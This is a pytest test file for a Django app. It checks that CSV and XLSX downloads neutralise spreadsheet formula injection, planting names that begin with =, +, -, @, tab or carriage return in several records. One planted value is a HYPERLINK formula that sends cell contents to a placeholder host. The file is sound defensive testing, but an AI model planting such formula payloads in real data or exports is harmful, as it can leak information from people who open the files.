"""No download hands a spreadsheet a formula: names beginning with =, +, -, @, a tab or a carriage
return are planted in every place a name can come from, and every CSV and XLSX export is opened
as a spreadsheet program would read it."""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from budgets.tests.conftest import LINES_2024, make_key, make_year
from categorisation import services as categorisation
from categorisation.models import Category
from core.downloads import FORMULA_STARTS, csv_response, neutralise, xlsx_response
from organisations.roles import CONSULENT, MANAGER
from reporting import services as reporting
from reporting.models import ReportRun
from tests.factories import BenefitPeriodFactory, ClientFactory, UserFactory, end_reason
from trajectories.models import Trajectory
from trajectories.tests.helpers import kind, provider

pytestmark = pytest.mark.django_db

CONSULENT_NAME = '=HYPERLINK("https://example.invalid/?d="&A1,"Klik")'
PLANTED = {
    "consulent": CONSULENT_NAME,
    "budget line": "+1+1",
    "trajectory type": "@SUM(1)",
    "client": "-2+3",
    "municipality": "\tWassenaar",
    "unit": "\rRe-integratie",
}
NUMBER = re.compile(r"^-?\d+(,\d+)?$")


@pytest.fixture
def planted(organisation, wassenaar):
    wassenaar.name = PLANTED["municipality"]
    wassenaar.save()
    consulent = UserFactory(
        organisation=organisation, roles=[CONSULENT], scope=[wassenaar],
        first_name=CONSULENT_NAME, last_name="-Jansen",
    )  # fmt: skip
    manager = UserFactory(organisation=organisation, roles=[MANAGER, CONSULENT], scope=[wassenaar])
    scholing = kind("scholing")
    scholing.name = PLANTED["trajectory type"]
    scholing.save()
    unit = Category.objects.get(organisation__isnull=True, code="1B").unit
    unit.name = PLANTED["unit"]
    unit.save()
    lines = [(PLANTED["budget line"], *LINES_2024[0][1:]), *LINES_2024[1:]]
    year = make_year(organisation, make_key(organisation, [(wassenaar, "100")]), 2026, lines)
    person = ClientFactory(
        municipality=wassenaar, consulent=consulent, first_names=PLANTED["client"],
        last_name=PLANTED["client"],
    )  # fmt: skip
    BenefitPeriodFactory(client=person, municipality=wassenaar, start=date(2025, 6, 1))
    leaver = ClientFactory(municipality=wassenaar, consulent=consulent)
    BenefitPeriodFactory(
        client=leaver, municipality=wassenaar, start=date(2025, 6, 1), end=date(2026, 1, 15),
        end_reason=end_reason("11"),
    )  # fmt: skip
    Trajectory.objects.create(
        client=person, type=scholing, provider=provider(), municipality=wassenaar,
        consulent=consulent, planned_start=date(2026, 1, 5), planned_end=date(2026, 6, 30),
        actual_start=date(2026, 1, 5), status="lopend", cost=Decimal("1250.50"),
        budget_line=year.lines.get(name=PLANTED["budget line"]),
    )  # fmt: skip
    categorisation.assess_client(
        client=person, day=date(2025, 7, 1), category=Category.objects.get(
            organisation__isnull=True, code="1B"), estimated_months=6, reason="", by=consulent,
    )  # fmt: skip
    run = ReportRun.objects.create(
        municipality=wassenaar, month=date(2026, 1, 1), requested_at=timezone.now()
    )
    reporting.build_report(run_id=run.pk)
    return manager


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_safe_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert NUMBER.match(cell) or not cell.startswith(FORMULA_STARTS), (cell, row)


def assert_safe_xlsx(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    values = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                values.append(cell.value)
    return values


def test_every_export_writes_planted_names_as_text_and_numbers_as_numbers(
    client, planted, wassenaar
):
    client.force_login(planted)
    base = f"/rapportages/{wassenaar.pk}/2026/1/"

    report = csv_cells(client.get(base + "csv/").content)
    assert_safe_csv(report)
    texts = {cell for row in report for cell in row}
    assert "'" + PLANTED["municipality"] in texts
    assert any(cell.startswith("'" + CONSULENT_NAME) for cell in texts)
    assert any(cell.startswith("'" + PLANTED["trajectory type"]) for cell in texts)
    assert {row[4] for row in report[1:]} & {"1", "2"}  # counts stay plain numbers

    values = assert_safe_xlsx(client.get(base + "xlsx/").content)
    assert "'" + PLANTED["municipality"] in values
    assert any(str(v).startswith("'" + CONSULENT_NAME) for v in values)
    assert any(str(v).startswith("'" + PLANTED["trajectory type"]) for v in values)
    assert any(isinstance(v, int) and not isinstance(v, bool) and v > 0 for v in values)

    values = assert_safe_xlsx(client.get("/begroting/2026/download/").content)
    assert "'" + PLANTED["budget line"] in values
    assert any(str(v).startswith("'" + PLANTED["municipality"]) for v in values)  # a header
    assert 95000 in values  # an amount stays a number
    assert any(isinstance(v, float) and v == 1250.5 for v in values)  # the realisation

    distribution = csv_cells(
        client.get(reverse("categorisation:distribution_csv"), {"datum": "2026-01-01"}).content
    )
    assert_safe_csv(distribution)
    assert ["2026-01-01", "'" + PLANTED["municipality"], "'" + PLANTED["unit"], "1B", "1", "50,0"] in distribution  # fmt: skip


def test_the_helpers_prefix_text_and_leave_numbers_and_dates_alone():
    row = ["=1+1", "+1", "-1+2", "@A1", "\tx", "\rx", "gewoon", "'al", 7, -3, Decimal("-2.50"),
           -1.5, date(2026, 1, 2), None, True]  # fmt: skip
    rows = csv_cells(csv_response("x.csv", ["=kop"], [row]).content)
    assert rows == [
        ["'=kop"],
        ["'=1+1", "'+1", "'-1+2", "'@A1", "'\tx", "'\rx", "gewoon", "'al", "7", "-3", "-2,50",
         "-1,5", "2026-01-02", "", "True"],
    ]  # fmt: skip
    content = xlsx_response("x.xlsx", [("Blad", ["=kop"], [row])]).content
    assert_safe_xlsx(content)
    sheet = list(openpyxl.load_workbook(io.BytesIO(content)).active.values)
    assert sheet[0] == ("'=kop", *[None] * 14)
    # XML reads a carriage return as a line feed
    assert sheet[1][:8] == ("'=1+1", "'+1", "'-1+2", "'@A1", "'\tx", "'\nx", "gewoon", "'al")
    assert sheet[1][8:12] == (7, -3, -2.5, -1.5)
    assert sheet[1][12].date() == date(2026, 1, 2)
    assert neutralise("") == ""


def test_every_download_goes_through_the_helpers():
    """A new export that writes CSV or XLSX by itself would skip the neutralising."""
    root = Path(__file__).resolve().parents[2]
    allowed = {Path("organisations/downloads.py")}
    writers = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|Workbook\(")
    offenders = [
        str(path.relative_to(root))
        for app in ("budgets", "categorisation", "clients", "deadlines", "organisations",
                    "reporting", "security", "trajectories", "config")
        for path in (root / app).rglob("*.py")
        if "tests" not in path.parts and path.relative_to(root) not in allowed
        and not path.relative_to(root).as_posix().startswith("clients/importer/")
        and writers.search(path.read_text())
    ]  # fmt: skip
    assert offenders == []
